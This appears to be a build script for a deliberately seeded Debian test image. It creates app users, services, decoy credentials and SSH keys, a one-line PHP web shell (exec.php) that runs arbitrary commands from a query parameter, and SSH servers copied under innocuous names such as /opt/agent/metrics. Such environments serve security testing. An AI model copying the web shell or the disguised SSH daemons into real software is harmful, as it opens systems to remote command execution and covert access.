# What the corpus's Debian image has beside Debian's packages: run once, as root, inside the image when it is made.
set -eu

# Two services and their owner, as images of applications have them.
useradd --system --uid 990 --create-home --home-dir /srv/app app
useradd --create-home --shell /bin/bash dev
mkdir --parents /srv/app/data /srv/www /run/sshd /opt/agent /etc/dropbear
echo '<h1>It works</h1>' > /srv/www/index.html

cat > /srv/app/app.py <<'END'
import http.server, sys
class Handler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *words):
        pass
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        open("/tmp/upload-%d" % len(body), "wb").write(body)
        self.send_response(204)
        self.end_headers()
http.server.ThreadingHTTPServer(("", int(sys.argv[1])), Handler).serve_forever()
END

cat > /srv/app/exec.php <<'END'
<?php echo shell_exec($_GET["c"] ?? "true");
END

cat > /srv/app/entrypoint.sh <<'END'
#!/bin/sh
# Makes its settings from the environment, and gives up its rights before the application begins.
set -e
envsubst < /srv/app/settings.template > /srv/app/settings.ini
sed -i "s/@WORKERS@/${WORKERS:-2}/" /srv/app/settings.ini
chown -R app:app /srv/app/data /srv/app/settings.ini
exec gosu app "$@"
END
chmod 755 /srv/app/entrypoint.sh
printf 'name=${NAME}\nworkers=@WORKERS@\n' > /srv/app/settings.template

cat > /etc/nginx/conf.d/app.conf <<'END'
server {
    listen 8080;
    root /srv/www;
    location /health { return 200 "ok\n"; }
}
END

printf '@reboot app date > /srv/app/data/at-start\n* * * * * app date >> /srv/app/data/minutes\n' > /etc/cron.d/app
printf '/var/log/app/*.log {\n  size 1\n  rotate 3\n  compress\n  missingok\n}\n' > /etc/logrotate.d/app
mkdir /var/log/app

# Private things that an attacker looks for.
mkdir --mode 700 /root/.ssh /root/.aws /root/.docker
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
printf '[default]\naws_access_key_id = EXAMPLE\naws_secret_access_key = EXAMPLE\n' > /root/.aws/credentials
echo '{"auths":{"registry.example":{"auth":"ZXhhbXBsZTpleGFtcGxl"}}}' > /root/.docker/config.json
mkdir --parents /var/run/secrets/kubernetes.io/serviceaccount
echo example-token > /var/run/secrets/kubernetes.io/serviceaccount/token
install --directory --owner app --group app --mode 700 /srv/app/.aws /srv/app/.ssh
install --owner app --group app --mode 600 /root/.aws/credentials /srv/app/.aws/credentials
ssh-keygen -q -t ed25519 -N '' -f /srv/app/.ssh/id_ed25519
chown app:app /srv/app/.ssh/id_ed25519*

# SSH servers under other names.
ssh-keygen -A > /dev/null
dropbearkey -t ed25519 -f /etc/dropbear/dropbear_ed25519_host_key > /dev/null 2>&1
cp /usr/sbin/sshd /opt/agent/metrics
cp /usr/sbin/dropbear /opt/agent/collector

# A program that came with the image and one that is replaced.
cp /bin/true /usr/local/bin/report
touch /var/log/auth.log /var/log/syslog /root/.bash_history
